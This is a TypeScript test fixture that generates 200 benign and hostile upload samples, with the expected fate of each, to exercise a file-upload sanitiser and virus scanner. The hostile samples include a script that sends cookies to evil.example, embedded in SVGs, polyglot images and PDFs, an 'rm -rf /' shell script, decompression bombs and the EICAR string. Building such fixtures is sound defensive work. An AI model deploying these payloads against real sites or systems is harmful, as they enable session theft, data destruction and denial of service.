/** Two hundred files such as people and attackers send. The same seed makes the same files. */
import sharp from 'sharp';
import { photograph } from '../../platform/testing/pictures.ts';
import { archive, type Member } from './archive.ts';
import { blackPng, costly, withComment, withIptc } from './pictures.ts';

/** What becomes of it: not taken; kept sealed, without or with a copy; refused a copy; found to be infected. */
type Fate = 'refused' | 'original' | 'copied' | 'no-copy' | 'infected';

export interface Sample {
  readonly name: string;
  readonly bytes: Buffer;
  readonly fate: Fate;
}

/** The industry's harmless test string (EICAR, 2006), put together here so that no scanner takes this file for one. */
export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join(
  '',
);

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const page = `<!doctype html><html><body>${script}</body></html>`;
const text = (words: string): Buffer => Buffer.from(words);

const pdf = (more = ''): Buffer =>
  text(`%PDF-1.7\n1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>> endobj\n${more}
2 0 obj <</Author(Zqkeyword)/Creator(Zqcamera)/Keywords(Zqplace)>> endobj\ntrailer <</Root 1 0 R/Info 2 0 R>>\n%%EOF\n`);

function office(kind: 'docx' | 'odt', body: Buffer, compress = false): Buffer {
  const history = text(
    '<w:document><w:ins w:author="Zqkeyword" w:date="2026-03-01T10:00:00Z"><w:t>Zqplace</w:t></w:ins></w:document>',
  );
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const types = text(`<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`);
  const members: Record<typeof kind, readonly Member[]> = {
    docx: [
      { name: '[Content_Types].xml', content: types },
      { name: 'docProps/core.xml', content: text('<dc:creator>Zqkeyword</dc:creator>') },
      { name: 'word/document.xml', content: Buffer.concat([history, body]), compress },
    ],
    odt: [
      { name: 'mimetype', content: text('application/vnd.oasis.opendocument.text') },
      { name: 'meta.xml', content: text('<meta:initial-creator>Zqkeyword</meta:initial-creator>') },
      { name: 'content.xml', content: body, compress },
    ],
  };
  return archive(members[kind]);
}

const many = <T>(count: number, make: (number: number) => T): readonly T[] =>
  Array.from({ length: count }, (_, n) => make(n));

export async function twoHundred(random: () => number): Promise<readonly Sample[]> {
  const whole = (most: number): number => Math.floor(random() * most);
  const noise = (length: number) => Buffer.from(Array.from({ length }, () => whole(256)));
  const size = () => ({ width: 40 + whole(900), height: 40 + whole(900) });
  const of = (fate: Fate, name: string, bytes: Buffer): Sample => ({ name, bytes, fate });
  const photo = (as: 'jpeg' | 'png' | 'webp' | 'tiff' | 'avif') => photograph({ ...size(), as });
  const jpeg = () => photo('jpeg');
  const gif = await sharp({ create: { width: 60, height: 60, channels: 3, background: 'red' } })
    .gif()
    .toBuffer();
  const samples: Sample[] = [];
  for (const [count, as] of [
    [26, 'jpeg'],
    [8, 'png'],
    [5, 'webp'],
    [4, 'tiff'],
    [2, 'avif'],
  ] as const)
    for (let n = 0; n < count; n++) samples.push(of('copied', `photo-${n}.${as}`, await photo(as)));
  for (let n = 0; n < 4; n++) samples.push(of('copied', `news-${n}.jpg`, withIptc(await jpeg(), 'Zqplace')));
  // Two kinds at once, or more than what it says.
  samples.push(
    of('copied', 'gif-and-script.gif', Buffer.concat([gif, text(`/*${script}*/=1;alert(1)`)])),
    of('copied', 'named-as-page.html', await jpeg()),
    of('copied', 'page-in-comment.jpg', withComment(await jpeg(), page)),
    of('copied', 'page-in-text.png', await blackPng(100, 100, page)),
    of(
      'copied',
      'archive-behind.jpg',
      Buffer.concat([await jpeg(), archive([{ name: 'a.html', content: text(page) }])]),
    ),
    of('copied', 'page-behind.png', Buffer.concat([await photo('png'), text(page)])),
    of('original', 'page-in.pdf', pdf(page)),
    of('original', 'page-behind.pdf', Buffer.concat([pdf(), text(page)])),
    of('refused', 'page-before.pdf', Buffer.concat([text(page), pdf()])),
    of('original', 'page-in.wav', Buffer.concat([text('RIFF\x24\0\0\0WAVEfmt '), text(page)])),
    of('original', 'page-in.mp4', Buffer.concat([text('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'), text(page)])),
    of(
      'original',
      'page-in.webm',
      Buffer.concat([
        Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d', 'hex'),
        text(page),
      ]),
    ),
    of(
      'original',
      'page-in.mp3',
      Buffer.concat([text('ID3\x04\0\0\0\0\0\0'), Buffer.from('fffb9064', 'hex'), noise(600), text(page)]),
    ),
    of('original', 'page-in.heic', Buffer.concat([text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), text(page)])),
  );
  // What costs more than it weighs.
  samples.push(
    of('no-copy', 'fifty-thousand.png', await blackPng(50_000, 50_000)),
    of('no-copy', 'wide.png', await blackPng(50_000, 40)),
    of('no-copy', 'cut.jpg', Buffer.from('ffd8ffe000104a464946', 'hex')),
    // A picture whose pixels are none is shown as far as it goes.
    of('copied', 'noise.png', Buffer.concat([(await blackPng(100, 100)).subarray(0, 41), noise(900)])),
    of('original', 'bomb.docx', office('docx', Buffer.alloc(30_000_000), true)),
    of('original', 'bomb.odt', office('odt', Buffer.alloc(30_000_000), true)),
  );
  // The first needs all of its coefficients at once: more than half a gigabyte.
  for (const [name, make] of costly)
    samples.push(of(name.startsWith('progressive') ? 'no-copy' : 'copied', name, await make()));
  samples.push(
    ...many(8, n =>
      of(
        'refused',
        `bomb-${n}.zip`,
        archive(
          many(3, m => ({ name: `${m}.txt`, content: Buffer.alloc(200_000 * (n + 1)), compress: true })),
        ),
      ),
    ),
    ...many(2, n =>
      of(
        'refused',
        `nested-${n}.zip`,
        archive([{ name: 'in.zip', content: archive([{ name: 'x', content: noise(40) }]) }]),
      ),
    ),
    ...many(10, n =>
      of(
        'refused',
        `drawing-${n}.svg`,
        text(
          `${n % 2 ? '<?xml version="1.0"?>' : ''}<svg xmlns="http://www.w3.org/2000/svg">${script}<rect width="${n}"/></svg>`,
        ),
      ),
    ),
    ...many(6, n => of('refused', `page-${n}.jpg`, text(`${' '.repeat(n * 300)}${page}`))),
    of('refused', 'run.txt', text('#!/bin/sh\nrm -rf /\n')),
    of('refused', 'link.txt', text('javascript:alert(document.domain)')),
    of('refused', 'program.jpg', Buffer.concat([text('MZ\x90\0'), noise(400)])),
    of('refused', 'library.pdf', Buffer.concat([Buffer.from('7f454c460201', 'hex'), noise(400)])),
    of('refused', 'packed.jpg', Buffer.concat([Buffer.from('1f8b0800', 'hex'), noise(200)])),
    of('refused', 'noise.txt', noise(500)),
    of('infected', 'virus.txt', text(eicar)),
    of('infected', 'virus.pdf', pdf(eicar)),
    of('infected', 'virus.jpg', withComment(await jpeg(), eicar)),
  );
  samples.push(
    ...many(30, n => of('original', `letter-${n}.pdf`, pdf(`% ${n} ${whole(1e9)}`))),
    ...many(20, n => of('original', `note-${n}.docx`, office('docx', text(`<!-- ${n} -->`)))),
    ...many(10, n => of('original', `note-${n}.odt`, office('odt', text(`<!-- ${n} -->`)))),
    ...many(4, n =>
      of('original', `old-${n}.doc`, Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(900)])),
    ),
  );
  const left = 200 - samples.length;
  samples.push(
    ...many(left, n =>
      of('original', `seen-${n}.txt`, text(`Seen ${n} times. Zqplace ${whole(1e9)} — ŵ 🙂\r\n`)),
    ),
  );
  return samples;
}
